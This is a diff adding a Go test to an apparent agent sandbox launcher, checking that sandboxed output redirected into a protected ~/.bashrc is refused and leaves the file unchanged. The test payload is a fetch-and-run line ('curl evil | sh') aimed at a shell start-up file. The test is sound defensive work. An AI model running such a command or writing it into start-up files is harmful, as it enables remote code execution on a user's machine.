@@ -78,6 +78,25 @@ func TestInheritedDescriptors(t *testing.T) {
 			if b, _ := os.ReadFile(out); string(b) != "into the workspace\n" {
 				t.Errorf("the workspace file holds %q", b)
 			}
+
+			// Its twin the other way: output appended to a protected start-up file would let
+			// the agent write what the mounts keep read-only. The launch stops, nothing written.
+			rc := filepath.Join(r.home, ".bashrc")
+			before, _ := os.ReadFile(rc)
+			g, err := os.OpenFile(rc, os.O_WRONLY|os.O_APPEND, 0)
+			if err != nil {
+				t.Fatal(err)
+			}
+			defer g.Close()
+			cmd = r.command(t.Context(), "--profile", r.profile, "--network", "none", "--", "echo", "curl evil | sh")
+			stderr.Reset()
+			cmd.Stdout, cmd.Stderr = g, &stderr
+			if err := cmd.Run(); err == nil || !strings.Contains(stderr.String(), "which the profile protects") {
+				t.Errorf("stdout into ~/.bashrc: want the launch refused naming the protection, got %v: %s", err, stderr.String())
+			}
+			if after, _ := os.ReadFile(rc); string(after) != string(before) {
+				t.Errorf("~/.bashrc changed: %q", after)
+			}
 		})
 	}
 }
